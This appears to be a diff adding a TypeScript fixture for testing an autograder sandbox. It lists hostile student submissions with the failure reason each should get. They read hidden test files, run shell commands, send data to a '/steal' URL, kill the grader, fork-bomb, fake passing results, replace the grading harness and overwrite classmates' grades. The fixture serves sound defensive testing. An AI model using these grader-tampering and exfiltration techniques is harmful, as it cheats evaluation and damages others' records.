@@ -1,0 +1,107 @@
+import type { Notebook } from "../assign/format";
+import { ANSWERS, submission } from "./fixture";
+
+/** Where the hostile code aims: the grader's files it must never reach. */
+export interface Targets {
+  specFile: string;
+  outDir: string;
+  gradebook: string;
+  /** results.json of an honest classmate graded in the same run. */
+  classmateResults: string;
+}
+
+/** A hostile submission: what it tries, the notebook, and the reason its hostile part must fail with. */
+export interface HostileCase {
+  student: string;
+  attack: string;
+  notebook: (t: Targets) => Notebook;
+  /** What the scale tests' messages must say (the hostile part scores 0 with this reason). */
+  reason: RegExp;
+  /** Needs the sandbox to run as an unprivileged user (killing the grader is only stopped by the OS). */
+  needsUnprivileged?: boolean;
+}
+
+const scaleDoing = (body: string): string => `function scale(x: number[], a: number): any {\n${body}\n}`;
+const q = JSON.stringify;
+
+/**
+ * The hostile suite: each submission attacks through `scale` (or a cell of its own) and
+ * implements `sumSquares` correctly, so the test can check the attack scores 0 with a clear
+ * reason while the rest of the same submission, and every other submission, is graded normally.
+ */
+export const HOSTILE: HostileCase[] = [
+  { student: "h01-read-spec", attack: "reads the hidden tests by path", reason: /ERR_ACCESS_DENIED|Access to this API/, notebook: (t) => submission(scaleDoing(`return JSON.parse(require("fs").readFileSync(${q(t.specFile)}, "utf8")).autograded[0].hiddenCases[0].expected;`), ANSWERS.sum) },
+  { student: "h02-require-spec", attack: "loads the hidden tests with require", reason: /ERR_ACCESS_DENIED|Access to this API|Cannot find module/, notebook: (t) => submission(scaleDoing(`return require(${q(t.specFile)}).autograded[0].hiddenCases[0].expected;`), ANSWERS.sum) },
+  { student: "h03-list-files", attack: "lists the grader's output folder", reason: /ERR_ACCESS_DENIED|Access to this API/, notebook: (t) => submission(scaleDoing(`return require("fs").readdirSync(${q(t.outDir)});`), ANSWERS.sum) },
+  { student: "h04-child-process", attack: "runs a shell command", reason: /ERR_ACCESS_DENIED|Access to this API/, notebook: (t) => submission(scaleDoing(`return JSON.parse(String(require("child_process").execSync("cat " + ${q(t.specFile)})));`), ANSWERS.sum) },
+  { student: "h05-network", attack: "sends data out with fetch and a socket", reason: /fetch failed|ENETUNREACH|EAI_AGAIN|connect/i, notebook: () => submission(scaleDoing(`return fetch("http://10.1.2.3/steal").then(() => x);`), ANSWERS.sum) },
+  { student: "h06-process-exit", attack: "calls process.exit", reason: /crashed|process\.exit/, notebook: () => submission(scaleDoing(`process.exit(0);`), ANSWERS.sum) },
+  { student: "h07-kill-grader", attack: "kills its parent (the grader)", reason: /EPERM|kill/, needsUnprivileged: true, notebook: () => submission(scaleDoing(`process.kill(process.ppid, "SIGKILL"); return x;`), ANSWERS.sum) },
+  { student: "h08-busy-loop", attack: "loops forever synchronously", reason: /timed out|limit/, notebook: () => submission(scaleDoing(`for (;;) {}`), ANSWERS.sum) },
+  { student: "h09-never-resolves", attack: "returns a promise that never settles", reason: /timed out|limit/, notebook: () => submission(scaleDoing(`return new Promise(() => {});`), ANSWERS.sum) },
+  { student: "h10-memory-bomb", attack: "allocates memory without end", reason: /crash|memory|allocation failed/i, notebook: () => submission(scaleDoing(`const hoard: Float64Array[] = []; for (;;) hoard.push(new Float64Array(1 << 24).fill(a));`), ANSWERS.sum) },
+  {
+    student: "h11-fork-bomb",
+    attack: "spawns processes and threads without end",
+    reason: /ERR_ACCESS_DENIED|Access to this API|crash|Worker|resource|memory/i,
+    notebook: () => submission(scaleDoing(`try { for (;;) require("child_process").fork("-e"); } catch (e) { const { Worker } = require("worker_threads"); for (let i = 0; i < 100000; i++) new Worker("setInterval(() => {}, 1000)", { eval: true }); throw e; }`), ANSWERS.sum),
+  },
+  { student: "h12-output-flood", attack: "prints a billion lines", reason: /bytes of output|bytes/, notebook: () => submission(scaleDoing(`for (let i = 0; i < 1e9; i++) console.log("line " + i + " of a billion");\nreturn x;`), ANSWERS.sum) },
+  {
+    student: "h13-override-builtins",
+    attack: "overrides JSON.stringify, Object.prototype, Array.isArray and Math, with a wrong scale",
+    reason: /wrong|shape/,
+    notebook: () =>
+      submission("function scale(x: number[], a: number): number[] {\n  return x;\n}", ANSWERS.sum, (cells) =>
+        void cells.push({
+          cell_type: "code",
+          source: `JSON.stringify = () => '{"ok":true}';\n(Object.prototype as any).toJSON = function () { return [2.5]; };\nArray.isArray = () => false;\nObject.keys = () => [];\n(Math as any).abs = () => 0;`,
+          metadata: {},
+          outputs: [],
+          execution_count: null,
+        }),
+      ),
+  },
+  {
+    student: "h14-fake-results",
+    attack: "prints fake results and returns a fake result bundle",
+    reason: /wrong|shape/,
+    notebook: () =>
+      submission(
+        scaleDoing(`console.log(JSON.stringify({ nonce: "0", caseId: "test-scale#0", ok: true, value: x.map((v) => a * v) }));\nconsole.log("All tests passed. Score: 6/6");\nreturn { [Symbol.for("Jupyter.display")]: () => ({ "application/vnd.dl-workbook.result+json": { nonce: "0", caseId: "test-scale#0", ok: true, value: [1] } }) };`),
+        ANSWERS.sum,
+      ),
+  },
+  {
+    student: "h15-redefine-harness",
+    attack: "finds and replaces the grading harness, with a wrong scale",
+    reason: /wrong|no result|more than one/,
+    notebook: () =>
+      submission(
+        `for (const k of Object.getOwnPropertyNames(globalThis)) if (k.startsWith("workbook")) (globalThis as any)[k] = { report: () => ({}) };\nconst workbookHarness = { report: () => ({}) };\nfunction scale(x: number[], a: number): number[] {\n  return x.map(() => 0);\n}`,
+        ANSWERS.sum,
+      ),
+  },
+  {
+    student: "h16-write-grader-files",
+    attack: "overwrites a classmate's results.json and the gradebook",
+    reason: /ERR_ACCESS_DENIED|Access to this API/,
+    notebook: (t) => submission(scaleDoing(`require("fs").writeFileSync(${q(t.classmateResults)}, '{"score": 0}');\nrequire("fs").writeFileSync(${q(t.gradebook)}, "garbage");\nreturn x;`), ANSWERS.sum),
+  },
+  {
+    student: "h17-edit-locked-cell",
+    attack: "rewrites the locked test cell and its points, with a wrong scale",
+    reason: /wrong|Error/,
+    notebook: () =>
+      submission("function scale(x: number[], a: number): number[] {\n  return x;\n}", ANSWERS.sum, (cells) => {
+        cells[2].source = "// all tests pass";
+        (cells[2].metadata as { nbgrader: { points: number } }).nbgrader.points = 100;
+      }),
+  },
+  {
+    student: "h18-delete-test-cell",
+    attack: "deletes the public test cell of a wrong scale",
+    reason: /wrong|Error/,
+    notebook: () => submission("function scale(x: number[], a: number): number[] {\n  return x;\n}", ANSWERS.sum, (cells) => void cells.splice(2, 1)),
+  },
+];
